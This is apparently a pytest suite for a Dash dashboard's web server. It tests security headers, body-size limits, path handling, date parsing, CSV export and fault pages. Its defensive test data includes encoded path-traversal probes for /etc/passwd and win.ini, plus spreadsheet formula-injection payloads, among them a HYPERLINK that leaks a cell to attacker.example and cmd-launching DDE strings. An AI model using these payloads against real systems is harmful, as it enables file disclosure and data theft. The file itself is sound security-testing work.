"""The web server under hostile and careless requests: headers, sizes, paths, dates, CSV, faults.

Real parts: the app on a real store (SQLite and PostgreSQL), the real ingestor
on a real broker for the CSV names, and headless Chromium for the policy.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import logging
import re
from datetime import UTC, datetime
from decimal import Decimal
from urllib.parse import urlsplit

import pytest

from ioc.contract import BacklogPayload, TrafficPayload, WifiPayload, topic_for
from ioc.district_view import DEFAULT_RANGE, parse_view
from pages.district_export import csv_value
from pages.web import create_app
from tests.conftest import make_settings, screenshot, wait_for_js, wait_until
from tests.test_ingest import running_ingestor

ORIGIN = "http://localhost"  # the test client's own origin
JSON_POST = {"Origin": ORIGIN, "Content-Type": "application/json"}


@pytest.fixture
def app(engine, areas):
    return create_app(make_settings(metrics_file=None), engine=engine, areas=areas)


@pytest.fixture
def client(app):
    client = app.server.test_client()
    client.get("/")  # Dash registers the pages' router on a first request
    return client


def router(path: str, search: str = "") -> dict:
    """The request a browser's Dash renderer makes to show a page (the pages' router)."""
    return {
        "output": ".._pages_content.children..._pages_store.data..",
        "outputs": [{"id": "_pages_content", "property": "children"},
                    {"id": "_pages_store", "property": "data"}],
        "inputs": [{"id": "_pages_location", "property": "pathname", "value": path},
                   {"id": "_pages_location", "property": "search", "value": search}],
        "changedPropIds": ["_pages_location.pathname", "_pages_location.search"],
        "state": [],
    }  # fmt: skip


def policy(response) -> dict[str, list[str]]:
    """The Content-Security-Policy header as {directive: sources}."""
    header = response.headers.get("Content-Security-Policy")
    assert header, f"no CSP on {response.request.path}"
    parts = (part.split() for part in header.split(";") if part.strip())
    return {part[0]: part[1:] for part in parts}


# --- security headers on every kind of answer ------------------------------------------------


def test_every_kind_of_answer_carries_the_security_headers(client):
    suite = re.search(r'src="(/_dash-component-suites/[^"]+)"', client.get("/wall").text)
    assert suite, "the wall page names its component scripts"
    answers = {
        "status page": client.get("/"),
        "wall": client.get("/wall"),
        "district page": client.get("/district/ninh-kieu"),
        "unknown district": client.get("/district/atlantis"),
        "asset": client.get("/assets/wall.css"),
        "component suite": client.get(suite.group(1)),
        "layout": client.get("/_dash-layout"),
        "callback": client.post("/_dash-update-component", json=router("/"), headers=JSON_POST),
        "api": client.get("/api/v1/districts"),
        "api 404": client.get("/api/v1/nothing"),
        "health": client.get("/healthz"),
        "briefing": client.get("/briefing"),
        "csv": client.get("/district/ninh-kieu/export/wifi_aps.csv"),
        "404": client.get("/assets/nothing.css"),
    }
    for what, response in answers.items():
        assert response.status_code < 500, what
        csp = policy(response)
        assert csp["default-src"] == ["'self'"], what
        assert csp["frame-ancestors"] == ["'self'"], what
        assert csp["object-src"] == ["'none'"], what
        assert "'unsafe-inline'" not in csp["script-src"], what
        assert "'unsafe-eval'" not in csp["script-src"], what
        assert all("*" not in s and "http" not in s for v in csp.values() for s in v), what
        assert response.headers["X-Content-Type-Options"] == "nosniff", what
        assert response.headers["Referrer-Policy"] == "same-origin", what


def test_only_an_html_download_may_use_inline_fonts(client):
    taken = client.post("/api/v1/snapshots", json={"title": "CSP"}, headers=JSON_POST)
    assert taken.status_code == 201, taken.text
    snapshot = taken.get_json()["id"]
    export = client.get(f"/briefing/{snapshot}/export.html")
    assert export.headers["Content-Disposition"].startswith("attachment")
    csp = policy(export)
    assert csp["font-src"] == ["'self'", "data:"]
    assert len(csp["script-src"]) > 2  # plotly.js and each chart's script, inlined and hashed
    for path in (f"/briefing/{snapshot}", "/district/ninh-kieu", "/wall"):
        assert policy(client.get(path))["font-src"] == ["'self'"], path


def test_a_dash_page_allows_exactly_its_inline_scripts_by_hash(client):
    response = client.get("/district/ninh-kieu")
    html = response.get_data()
    scripts = re.findall(rb"<script([^>]*)>(.*?)</script>", html, re.S)
    runnable = [body for attrs, body in scripts if b"src=" not in attrs and b"json" not in attrs]
    assert any(b"new DashRenderer" in body for body in runnable)
    expected = {
        "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"
        for body in runnable
    }
    allowed = set(policy(response)["script-src"]) - {"'self'"}
    assert allowed == expected


# --- request size ---------------------------------------------------------------------------


def test_an_oversized_body_is_refused_with_413_before_any_view_reads_it(client, engine):
    big = b'{"title": "' + b"x" * (1024 * 1024 + 10) + b'"}'
    dash = client.post("/_dash-update-component", data=big, headers=JSON_POST)
    assert dash.status_code == 413
    assert dash.mimetype == "text/plain" and "1024 KiB" in dash.text
    api = client.post("/api/v1/snapshots", data=big, headers=JSON_POST)
    assert api.status_code == 413
    assert api.get_json() == {"error": "request body too large", "limit_bytes": 1024 * 1024}
    assert client.get("/api/v1/snapshots").get_json()["total"] == 0  # nothing was taken
    english = client.post("/briefing?lang=en", data=big, headers={"Origin": ORIGIN})
    assert english.status_code == 413 and "Request too large" in english.text
    # A body just under the cap is read as usual.
    small = client.post("/_dash-update-component", json=router("/"), headers=JSON_POST)
    assert small.status_code == 200


def test_the_cap_is_a_setting(engine, areas):
    app = create_app(make_settings(metrics_file=None, max_request_kb=16), engine=engine,
                     areas=areas)  # fmt: skip
    response = app.server.test_client().post(
        "/_dash-update-component", data=b"{" + b" " * 17 * 1024 + b"}", headers=JSON_POST
    )
    assert response.status_code == 413


# --- component suite paths --------------------------------------------------------------------

TRAVERSALS = [
    "/_dash-component-suites/dash/..%2f..%2f..%2fetc%2fpasswd",
    "/_dash-component-suites/dash/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/_dash-component-suites/dash/..%5c..%5c..%5cetc%5cpasswd",
    "/_dash-component-suites/dash/%2fetc%2fpasswd",
    "/_dash-component-suites/dash//etc/passwd",
    "/_dash-component-suites/dash/C:%5cWindows%5cwin.ini",
    "/_dash-component-suites/..%2f..%2fetc/passwd",
    "/_dash-component-suites/dash/deps/..%2f..%2f__init__.py",
    "/_dash-component-suites/dash/nothing.v1_2_3m1700000000.js",
    "/_dash-component-suites/os/path.py",
    "/_dash-component-suites/plotly/package_data/..%2f__init__.py",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_odd_component_suite_paths_are_404_with_no_traceback(client, caplog, path):
    caplog.set_level(logging.DEBUG)
    response = client.get(path)
    assert response.status_code == 404
    assert b"root:" not in response.data and b"import" not in response.data
    assert b"registered" not in response.data  # Dash's list of its files stays private
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


def test_registered_component_files_are_still_served(client):
    for path in re.findall(r'src="(/_dash-component-suites/[^"]+)"', client.get("/").text):
        assert client.get(path).status_code == 200, path


# --- dates out of range --------------------------------------------------------------------

OUT_OF_RANGE = [
    ("0001-01-01", "0001-01-05", "from=0001-01-01"),
    ("2026-01-01", "9999-12-31", "to=9999-12-31"),
    ("0001-01-02", "0001-01-03", "from=0001-01-02"),
    ("0001-01-01T00:00", "2026-01-02", "from=0001-01-01T00:00"),
    ("1969-12-31", "1970-01-02", "from=1969-12-31"),
]


@pytest.mark.parametrize(("first", "last", "named"), OUT_OF_RANGE)
def test_out_of_range_dates_get_the_bad_parameter_notice(first, last, named):
    view = parse_view("ninh-kieu", {"range": "custom", "from": first, "to": last, "lang": "en"})
    assert view.range == DEFAULT_RANGE
    assert view.notices == (f"Bad parameter, default used: {named}",)


@pytest.mark.parametrize(("first", "last", "named"), OUT_OF_RANGE[:3])
def test_out_of_range_dates_answer_the_page_csv_and_json_with_the_default_range(
    client, first, last, named
):
    query = f"range=custom&from={first}&to={last}"
    report = client.get(f"/api/v1/districts/ninh-kieu/report?{query}&lang=en")
    assert report.status_code == 200
    assert report.get_json()["notices"] == [f"Bad parameter, default used: {named}"]
    assert report.get_json()["range"]["key"] == DEFAULT_RANGE
    exported = client.get(f"/district/ninh-kieu/export/traffic_sources.csv?{query}")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    page = client.post(
        "/_dash-update-component", json=router("/district/ninh-kieu", f"?{query}"),
        headers=JSON_POST,
    )  # fmt: skip
    assert page.status_code == 200
    shown = json.dumps(page.get_json(), ensure_ascii=False)
    assert f"Tham số không hợp lệ, dùng mặc định: {named}" in shown


# --- CSV formula injection -------------------------------------------------------------------

EVIL = {
    "cam-evil": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "cam-plus": "+cmd|' /C calc'!A0",
    "cam-minus": "-2+3+cmd|' /C calc'!A0",
    "cam-tab": "\t=1+1",
}


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.broker
def test_csv_cells_from_the_feeds_never_start_a_formula(broker, publisher, engine, areas, client):
    now = datetime.now(UTC).replace(microsecond=0)
    with running_ingestor(broker.url, engine, areas):
        for source, name in EVIL.items():
            body = TrafficPayload(ts=now, vehicles=12, speed_kmh=35.5, name=name)
            publisher.publish(topic_for("ninh-kieu", "traffic", source), body.to_json())
        wifi = WifiPayload(ts=now, up=True, name="@SUM(1+1)*cmd|' /C calc'!A0")
        publisher.publish(topic_for("ninh-kieu", "wifi", "ap-evil"), wifi.to_json())
        desk = BacklogPayload(ts=now, pending=3, overdue=1, name="\r=2+5")
        publisher.publish(topic_for("ninh-kieu", "backlog", "desk-evil"), desk.to_json())
        rejected = b'=HYPERLINK("http://attacker.example","x")'
        publisher.publish(topic_for("ninh-kieu", "traffic", "cam-evil"), rejected)
        publisher.wait_all()

        def stored() -> bool:
            api = client.get("/api/v1/districts/ninh-kieu/report?range=1h&source=cam-evil")
            source = api.get_json().get("source") or {}
            rows = (source.get("rejections") or {}).get("rows") or []
            cams = {r["source"] for r in api.get_json()["tables"]["traffic_sources"]["rows"]}
            return len(rows) == 1 and set(EVIL) <= cams

        assert wait_until(stored, 30), "the ingestor did not store the readings and rejection"

    header, *rows = _cells(client.get("/district/ninh-kieu/export/traffic_sources.csv?range=1h"))
    rows = [row for row in rows if row[1] in EVIL]  # ours only, whatever else the broker carries
    names = {row[1]: row[0] for row in rows}
    for source, name in EVIL.items():
        assert names[source] == "'" + name  # shown as the text it is, never run
    for row in rows:
        assert row[2] == "12" and row[3] == "35.5"  # numbers stay numbers
    (_, ap), *_ = (
        (row[1], row[0]) for row in _cells(
            client.get("/district/ninh-kieu/export/wifi_aps.csv?range=1h")
        )[1:] if row[1] == "ap-evil"
    )  # fmt: skip
    assert ap == "'@SUM(1+1)*cmd|' /C calc'!A0"
    desks = _cells(client.get("/district/ninh-kieu/export/services_desks.csv?tab=services"))
    assert any(row[0] == "'\r=2+5" for row in desks[1:])
    letters = _cells(client.get(
        "/district/ninh-kieu/export/source_rejections.csv?range=1h&source=cam-evil"
    ))  # fmt: skip
    texts = [cell for row in letters[1:] for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in texts), letters
    assert not [c for row in rows + letters[1:] for c in row if c and c[0] in "=+-@\t\r"]


@pytest.mark.parametrize(
    ("value", "kind", "shown"),
    [
        (-3.5, "num1", "-3.5"),
        (Decimal("-2.250"), "num2", "-2.25"),
        (-7, "int", -7),
        ("-7", "text", "'-7"),
        ("=1+1", "text", "'=1+1"),
        ("Ninh Kiều", "text", "Ninh Kiều"),
        ({"vi": "+84 hotline", "en": "x"}, "i18n", "'+84 hotline"),
        ("alarm", "status", "báo động"),
    ],
)
def test_numbers_stay_numbers_and_text_never_starts_a_formula(value, kind, shown):
    assert csv_value(value, kind, "vi") == shown


# --- unexpected faults --------------------------------------------------------------------


def test_an_unexpected_fault_is_a_friendly_500_logged_once(engine, areas, caplog):
    app = create_app(make_settings(metrics_file=None), engine=engine, areas=areas)

    def broken():
        raise RuntimeError("the disk caught fire")

    app.server.add_url_rule("/broken", view_func=broken)
    app.server.add_url_rule("/api/v1/broken", view_func=broken)
    client = app.server.test_client()
    caplog.set_level(logging.INFO)
    page = client.get("/broken")
    assert page.status_code == 500 and page.mimetype == "text/html"
    assert "Có lỗi trên máy chủ" in page.text
    assert "Traceback" not in page.text and "disk caught fire" not in page.text
    assert "Something went wrong" in client.get("/broken?lang=en").text
    api = client.get("/api/v1/broken")
    assert api.status_code == 500 and api.get_json() == {"error": "internal error"}
    assert policy(page)["default-src"] == ["'self'"]
    faults = [r for r in caplog.records if r.exc_info]
    assert len(faults) == 3  # once per request, with its traceback, in the log only
    assert all("the disk caught fire" in str(r.exc_info[1]) for r in faults)


def test_a_malformed_dash_callback_is_answered_without_a_traceback_page(client, caplog):
    for body in ({"x": 1}, [1], {"output": 1, "outputs": {}, "inputs": []}, {"output": "a"}):
        response = client.post("/_dash-update-component", json=body, headers=JSON_POST)
        assert response.status_code == 400 and "expected a JSON object" in response.text
    response = client.post("/_dash-update-component", data=b"{not json", headers=JSON_POST)
    assert response.status_code == 400
    assert "Traceback" not in caplog.text and "KeyError" not in caplog.text


# --- the policy in a real browser ----------------------------------------------------------

PLOT = ".js-plotly-plot .main-svg"
WATCH = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(
  e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || '')));
"""


def _watched(browser, base: str):
    context = browser.new_context(viewport={"width": 1600, "height": 1000})
    context.add_init_script(WATCH)
    page = context.new_page()
    page.problems = []  # type: ignore[attr-defined]
    page.on("pageerror", lambda err: page.problems.append(f"pageerror: {err}"))
    page.on("console", lambda msg: page.problems.append(f"console: {msg.text}")
            if msg.type == "error" else None)  # fmt: skip
    return context, page


def _violations(page) -> list[str]:
    return page.evaluate("window.__violations") + page.problems


@pytest.mark.browser
@pytest.mark.slow
def test_every_page_renders_under_the_policy_with_no_violation(live_app, browser, tmp_path):
    base = live_app.base_url
    context, page = _watched(browser, base)
    try:
        checks = {
            "/wall?scenes=overview,traffic&rotate=0&jump=0": f"#wall-stage.is-ready {PLOT}",
            "/wall?district=ninh-kieu&scenes=&rotate=0&jump=0": f".scene.is-active {PLOT}",
            "/": "#status-body a[href^='/district/']",
            "/district/ninh-kieu?range=1h": f".ag-row, {PLOT}",
            "/district/ninh-kieu?tab=wifi&range=24h": ".ag-row",
            "/district/ninh-kieu?tab=services&lang=en": ".ag-row",
            "/district/ninh-kieu?source=cam-001&range=1h": PLOT,
            "/briefing": "#take",
        }  # fmt: skip
        for path, drawn in checks.items():
            page.goto(f"{base}{path}")
            page.wait_for_selector(drawn, state="attached", timeout=30_000)
            page.wait_for_timeout(1500)  # a refresh callback or two
            assert _violations(page) == [], path
        page.fill("#title", "CSP")
        page.click("#take")
        page.wait_for_url("**/briefing/*?lang=vi")
        wait_for_js(page, "document.querySelectorAll('.chart svg').length >= 2")
        snapshot = urlsplit(page.url).path.rsplit("/", 1)[1]
        page.goto(f"{base}/briefing/{snapshot}?compare=previous&lang=en")
        wait_for_js(page, "document.querySelectorAll('.chart svg').length >= 2")
        assert _violations(page) == [], "briefing page"
        screenshot(page, "csp-briefing")

        # The self-contained export, shown in place under the header it is served with.
        def in_place(route):
            served = route.fetch()
            headers = {k: v for k, v in served.headers.items()
                       if k.lower() not in ("content-disposition", "content-encoding",
                                            "content-length")}  # fmt: skip
            assert "content-security-policy" in {k.lower() for k in headers}
            route.fulfill(status=served.status, headers=headers, body=served.body())

        page.route("**/export.html*", in_place)
        page.goto(f"{base}/briefing/{snapshot}/export.html?lang=vi")
        wait_for_js(page, "document.querySelectorAll('.chart svg').length >= 2")
        assert _violations(page) == [], "briefing export"
    finally:
        context.close()
